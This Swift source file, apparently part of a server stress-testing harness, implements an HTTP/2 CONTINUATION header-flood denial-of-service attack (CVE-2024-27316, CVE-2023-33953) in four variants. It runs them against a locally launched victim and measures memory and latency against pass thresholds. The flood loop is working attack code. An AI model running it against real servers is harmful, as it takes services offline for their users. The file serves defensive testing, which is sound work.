import EnvoyAPI
import NIOCore
import XDS

/// Sends a header block that never ends (CVE-2024-27316, CVE-2023-33953).
struct HeaderFlood: Attack {
    /// The contents of the block.
    enum Kind: String, CaseIterable {
        case continuation
        case empty = "empty-continuation"
        case headerString = "header-string"
        case padding = "hpack-padding"
    }

    var kind: Kind

    var name: String { kind.rawValue }
    var summary: String {
        switch kind {
        case .continuation: "300 MB of small header fields in CONTINUATION frames, in a block that never ends"
        case .empty: "CONTINUATION frames with nothing in them, in a block that never ends"
        case .headerString: "one header string that is said to be 1 GB long, sent on in small frames"
        case .padding: "an HPACK integer that goes on and on, in small frames"
        }
    }
    let bar = "RSS < 150 MB, honest p99 < 1 s"

    private static let totalBytes = 300_000_000
    private var isEndless: Bool { kind != .continuation }

    func play(on stage: AttackStage) async throws -> [Figure] {
        try await stage.withVictim(in: stage.makeDirectory(name), VictimConfiguration()) { victim in
            // The longest time for the 300 MB; the other kinds run for this long.
            let duration = stage.scale.duration(10, short: 2)
            let target = try RawTarget(victim)
            let sent = Shared(0)
            let connections = Shared(0)
            let exposure = try await Exposure.measure(victim) {
                connections.add(await PersistentAttack(target: target).run(for: duration) { try await flood($0, sent) })
            }
            return exposure.figures(Exposure.Bars(memory: 150, newClient: 2)) + [
                Figure("sent", Double(sent.value) / 1_000_000, "MB"),
                Figure("connections", Double(connections.value), ""),
            ]
        }
    }

    private func flood(_ connection: RawConnection, _ sent: Shared<Int>) async throws {
        var block = HeaderBlock(callOf: Method.of(.clusterLoadAssignment, .delta).path, isTLS: false)
        let payload: [UInt8]
        switch kind {
        case .continuation:
            // After a call's usual fields, C-core 1.51 closes the connection at once; without them it buffers what
            // arrives.
            block = HeaderBlock()
            var fields = HeaderBlock()
            while fields.bytes.count < HTTP2Frame.longestPayload - 200 {
                fields.append("x-flood", String(repeating: "a", count: 120))
            }
            block.append("x", "y")
            payload = fields.bytes
        case .empty: payload = []
        case .headerString:
            block.append("x-flood", announcing: 1_000_000_000)
            payload = [UInt8](repeating: 0x61, count: 1_024)
        case .padding:
            block.append(endlessLengthOf: "x-flood")
            payload = [UInt8](repeating: 0x80, count: 1_024)
        }
        var first = ByteBuffer()
        first.writeFrame(.headers, stream: 1, block.bytes)
        try await connection.write(first)
        var batch = ByteBuffer()
        while batch.readableBytes < 200_000 { batch.writeFrame(.continuation, stream: 1, payload) }
        while !Task.isCancelled, isEndless || sent.value < Self.totalBytes {
            try await connection.write(batch)
            sent.add(batch.readableBytes)
        }
        // The server must buffer what it received for as long as the connection exists.
        try await Task.sleep(for: .seconds(600))
    }
}
